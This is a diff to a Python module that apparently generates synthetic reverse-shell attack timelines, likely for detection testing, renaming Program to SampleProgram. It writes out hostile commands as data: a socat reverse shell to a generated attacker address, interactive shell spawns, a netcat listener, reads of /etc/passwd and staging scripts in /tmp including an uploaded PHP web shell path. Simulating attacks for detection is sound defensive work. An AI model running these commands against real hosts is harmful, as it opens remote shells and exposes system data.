@@ -12,8 +12,8 @@ from functools import partial
 
 from runner.sample_data.addresses import Endpoint, attacker
 from runner.sample_data.command_lines import shell
-from runner.sample_data.processes import Process, Program
-from runner.sample_data.timeline import MILLISECOND, Step, Timeline
+from runner.sample_data.processes import Process, SampleProgram
+from runner.sample_data.timeline import MILLISECOND, Timeline, TimelineStep
 
 SECOND = 1_000 * MILLISECOND
 Pair = tuple[str, str]
@@ -28,7 +28,7 @@ class Scene:
     elsewhere: Timeline
     windows: Timeline
 
-    def steps(self) -> list[Step]:
+    def steps(self) -> list[TimelineStep]:
         """Return the steps of all three hosts."""
         return [*self.here.steps, *self.elsewhere.steps, *self.windows.steps]
 
@@ -73,7 +73,7 @@ def look_around(line: Timeline, inside: Process) -> None:
     for path, args in (("/usr/bin/id", "id"), ("/usr/bin/uname", "uname -a"), ("/usr/bin/cat", "cat /etc/passwd")):
         if line.rng.random() < 0.5:
             line.wait(9_000, 90_000)
-            line.whole_life(inside, Program(path, tuple(args.split())))
+            line.whole_life(inside, SampleProgram(path, tuple(args.split())))
     line.wait(9_000, 90_000)
     line.end(inside)
 
@@ -95,7 +95,7 @@ def shell_connects(
     line = scene.here
     remote = attacker(line.rng, six=six, local_port=4444 if accepted else 0)
     args = tuple(to_address(part, remote) for part in (name, "-c", script))
-    opener = line.run(way_in(line), Program(f"/usr/bin/{name}", args))
+    opener = line.run(way_in(line), SampleProgram(f"/usr/bin/{name}", args))
     line.wait(1_000, 60_000)
     if how == "retry":
         line.connect(opener, remote)
@@ -114,7 +114,7 @@ def shell_connects(
 
 def _child_shell(line: Timeline, opener: Process, *, how: str) -> tuple[Process, str]:
     name = line.rng.choice(SHELL_CHILDREN)
-    program = Program(f"/usr/bin/{name}", (f"/bin/{name}", "-i"))
+    program = SampleProgram(f"/usr/bin/{name}", (f"/bin/{name}", "-i"))
     if how == "exec":
         child = line.spawn(opener, program)
     elif how == "whole":
@@ -132,13 +132,13 @@ def socat_connects(scene: Scene, gap: int, *, listens: bool = False) -> Pair:
     line = scene.here
     remote = attacker(line.rng, local_port=4444 if listens else 0)
     far = "TCP-LISTEN:4444,reuseaddr,fork" if listens else to_address("TCP:ADDRESS:PORT", remote)
-    program = Program("/usr/bin/socat", ("socat", far, "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"))
+    program = SampleProgram("/usr/bin/socat", ("socat", far, "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"))
     opener = line.run(way_in(line), program)
     line.wait(1_000, 60_000)
     first = line.accept(opener, remote) if listens else line.connect(opener, remote)
     child = line.fork(opener)
     line.now += gap
-    second = line.execute(child, Program("/usr/bin/bash", ("bash", "-li")))
+    second = line.execute(child, SampleProgram("/usr/bin/bash", ("bash", "-li")))
     look_around(line, child)
     line.end(opener)
     return first, second
@@ -171,22 +171,22 @@ REVERSE_SHELL_ATTACKS: tuple[tuple[str, Attack], ...] = (
 
 # A utility starts, then connects.
 
-PARENTS: tuple[Program, ...] = (
-    Program("/usr/bin/bash", ("bash", "/tmp/.x/run.sh")),
-    Program("/usr/bin/sh", ("sh", "/dev/shm/up.sh")),
-    Program("/usr/bin/dash", ("/bin/sh", "/var/tmp/u")),
-    Program("/usr/bin/python3", ("python3", "/tmp/stage.py")),
-    Program("/usr/bin/perl", ("perl", "/tmp/stage.pl")),
-    Program("/usr/bin/php8.3", ("php", "/var/www/html/uploads/avatar.php")),
-    Program("/usr/bin/zsh", ("zsh", "/tmp/up.zsh")),
-    Program("/usr/bin/ruby", ("ruby", "/tmp/stage.rb")),
-    Program("/usr/bin/lua5.4", ("lua", "/tmp/stage.lua")),
-    Program("/usr/bin/awk", ("awk", "-f", "/tmp/stage.awk")),
-    Program("/usr/bin/ksh", ("ksh", "/tmp/up.ksh")),
-    Program("/usr/bin/fish", ("fish", "/tmp/up.fish")),
-    Program("/usr/bin/tcsh", ("tcsh", "/tmp/up.csh")),
-    Program("/usr/bin/csh", ("csh", "/tmp/up.csh")),
-    Program("/usr/bin/nc", ("nc", "-lp", "4001")),
+PARENTS: tuple[SampleProgram, ...] = (
+    SampleProgram("/usr/bin/bash", ("bash", "/tmp/.x/run.sh")),
+    SampleProgram("/usr/bin/sh", ("sh", "/dev/shm/up.sh")),
+    SampleProgram("/usr/bin/dash", ("/bin/sh", "/var/tmp/u")),
+    SampleProgram("/usr/bin/python3", ("python3", "/tmp/stage.py")),
+    SampleProgram("/usr/bin/perl", ("perl", "/tmp/stage.pl")),
+    SampleProgram("/usr/bin/php8.3", ("php", "/var/www/html/uploads/avatar.php")),
+    SampleProgram("/usr/bin/zsh", ("zsh", "/tmp/up.zsh")),
+    SampleProgram("/usr/bin/ruby", ("ruby", "/tmp/stage.rb")),
+    SampleProgram("/usr/bin/lua5.4", ("lua", "/tmp/stage.lua")),
+    SampleProgram("/usr/bin/awk", ("awk", "-f", "/tmp/stage.awk")),
+    SampleProgram("/usr/bin/ksh", ("ksh", "/tmp/up.ksh")),
+    SampleProgram("/usr/bin/fish", ("fish", "/tmp/up.fish")),
+    SampleProgram("/usr/bin/tcsh", ("tcsh", "/tmp/up.csh")),
+    SampleProgram("/usr/bin/csh", ("csh", "/tmp/up.csh")),
+    SampleProgram("/usr/bin/nc", ("nc", "-lp", "4001")),
 )
 
 
@@ -225,17 +225,17 @@ def utility_connects(
         line.wait(20_000, 300_000)
         line.connect(process, remote)
     line.wait(3_000, 60_000)
-    child = line.run(process, Program(line.machine.host.image.shell, ("/bin/sh", "-i")))
+    child = line.run(process, SampleProgram(line.machine.host.image.shell, ("/bin/sh", "-i")))
     look_around(line, child)
     line.disconnect(process, remote)
     line.end(process)
     return first, second
 
 
-def utility(line: Timeline, path: str, *, args: tuple[str, ...], remote: Endpoint) -> Program:
+def utility(line: Timeline, path: str, *, args: tuple[str, ...], remote: Endpoint) -> SampleProgram:
     """Return the utility with the attacker's address; PYTHON stands for the interpreter of the host's distribution."""
     executable = line.machine.host.image.python if path == "PYTHON" else path
-    return Program(executable, tuple(to_address(part, remote) for part in args))
+    return SampleProgram(executable, tuple(to_address(part, remote) for part in args))
 
 
 PYTHON_CALL = (
